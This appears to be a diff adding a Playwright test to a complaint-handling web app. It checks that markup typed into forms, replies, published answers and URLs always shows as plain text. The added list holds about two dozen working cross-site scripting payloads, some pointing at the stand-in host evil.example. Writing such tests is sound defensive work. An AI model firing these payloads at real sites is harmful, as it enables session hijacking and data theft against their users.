@@ -1,8 +1,23 @@
 /** What somebody with bad intentions would send: markup in every field, forms from foreign pages, bodies without end. */
 
+import type { Page } from "@playwright/test";
 import { expectSoundPage, findBarriers } from "./accessibility";
 import { expect, test } from "./journey";
+import { handlerOf, leadOf } from "./people";
 import { formWith, PlainBrowser, readableText } from "./plain-browser";
+import {
+  acknowledge,
+  approve,
+  openFromQueue,
+  openQueue,
+  openReport,
+  publish,
+  queueLine,
+  reply,
+  revealIdentity,
+} from "./steps/desk";
+import { field, fileReport, goOn, sampleFiling } from "./steps/filing";
+import { lookUp, rate } from "./steps/status";
 import { watchPage } from "./watch";
 import { words } from "./words";
 
@@ -55,6 +70,115 @@ test("a body that breaks off in the middle of a part is refused without a trace 
     expect(await answer.text()).not.toMatch(/\bat .+:\d+:\d+|node_modules|Error:/);
   }
   expect((await fetch(url)).status).toBe(200);
+});
+
+/** Ways in which markup has got through elsewhere: out of elements, attributes, titles, comments, scripts' own data. */
+const markup = [
+  "<script>alert(1)</script>",
+  '"><script>alert(2)</script>',
+  "'><img src=x onerror=alert(3)>",
+  "<svg onload=alert(4)>",
+  "<svg/onload=alert(5)//",
+  '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
+  '<a href="javascript:alert(7)">x</a>',
+  "javascript:alert(8)",
+  "</textarea><script>alert(9)</script>",
+  "</title><script>alert(10)</script>",
+  "--><script>alert(11)</script><!--",
+  "</script><script>alert(12)</script>",
+  "{{constructor.constructor('alert(13)')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what somebody might type.
+  "${alert(14)}",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(15)>",
+  "<details open ontoggle=alert(16)>",
+  "<style>@import'//evil.example/x.css'</style>",
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  "<input autofocus onfocus=alert(20)>",
+  "\\u003cscript\\u003ealert(21)\\u003c/script\\u003e",
+  "<img src=//evil.example/pixel.png>",
+  "<form action=//evil.example><button>x</button></form>",
+  "\u2028<!--<script>alert(24)//",
+];
+const allMarkup = markup.join("\n");
+
+test("markup in every field stays text on every page that shows it", { tag: "@desktop" }, async ({ people }) => {
+  test.setTimeout(120_000);
+  const unitId = "LZ02-natural-resources";
+  const person = await people.somebody();
+  const expectText = async (page: Page, texts: readonly string[]) => {
+    const shown = (await page.getByRole("main").innerText()).replace(/\s+/g, " ");
+    for (const text of texts) expect(shown, page.url()).toContain(text.replace(/\s+/g, " ").trim());
+    const made =
+      "main img, main iframe, main base, main meta, main style, main script, main math, main [onload], main [autofocus]:not([role=alert])";
+    expect(await page.locator(made).count(), `elements that the text became on ${page.url()}`).toBe(0);
+  };
+
+  const receipt = await test.step("a person files it, after a step that has to be repeated", async () => {
+    await person.goto("/report/trouble");
+    await field(person, "body").fill(allMarkup);
+    await goOn(person);
+    await expect(field(person, "body")).toHaveValue(allMarkup);
+    return fileReport(
+      person,
+      sampleFiling({
+        body: `${markup[2]} ${allMarkup}`,
+        place: markup.slice(2, 6).join(" "),
+        contact: { identityMode: "real_name", name: markup[2], phone: "0999-1234567", sharesIdentity: "yes" },
+        applicationNumber: markup[1],
+        toldReason: markup.slice(6, 20).join(" "),
+        wish: markup.slice(10).join(" "),
+      }),
+    );
+  });
+  await lookUp(person, receipt);
+  await expectText(person, markup);
+
+  const handler = await people.staff(handlerOf(unitId));
+  const lead = await people.staff(leadOf(unitId));
+  await test.step("the unit reads it and answers with the same", async () => {
+    await openQueue(handler);
+    await expect(queueLine(handler, receipt.number)).toContainText(markup[2] ?? "");
+    await openFromQueue(handler, receipt.number);
+    await expectText(handler, markup);
+    await acknowledge(handler);
+    await revealIdentity(handler, markup[3] ?? "");
+    await expect(handler.getByRole("main")).toContainText(markup[2] ?? "");
+    await reply(handler, { outcome: "solved", body: allMarkup, basis: markup.slice(0, 8).join("\n") });
+    await openReport(lead, receipt.number);
+    await expectText(lead, markup);
+    await approve(lead);
+  });
+
+  await test.step("the complainant reads the answer, and the public what was published", async () => {
+    await lookUp(person, receipt);
+    await expectText(person, markup);
+    await rate(person, { satisfaction: 3, comment: markup.slice(0, 20).join(" ") });
+    const dispatcher = await people.staff("dispatcher");
+    await openReport(dispatcher, receipt.number);
+    await expectText(dispatcher, markup);
+    const title = `${markup[0]} ${receipt.number.slice(7)}`;
+    await publish(dispatcher, { title, question: allMarkup, answer: allMarkup });
+    const reader = await people.somebody();
+    await reader.goto("/published");
+    await expectText(reader, [title]);
+    await reader.getByRole("link", { name: title }).click();
+    await expect(reader.getByRole("heading", { level: 1 })).toContainText(title);
+    await expectText(reader, markup);
+  });
+
+  await test.step("and in addresses", async () => {
+    for (const address of [
+      `/report/trouble?notice=${encodeURIComponent(markup[1] ?? "")}`,
+      `/sign-in?next=${encodeURIComponent("javascript:alert(1)")}`,
+      `/status/${encodeURIComponent(markup[0] ?? "")}`,
+      `/published?after=${encodeURIComponent(markup[1] ?? "")}`,
+      `/no-such-page/${encodeURIComponent(markup[2] ?? "")}`,
+    ]) {
+      await person.goto(address);
+      await expectText(person, []);
+    }
+  });
 });
 
 test("the journeys would notice: planted errors, dialogs, foreign scripts and barriers are all found", {
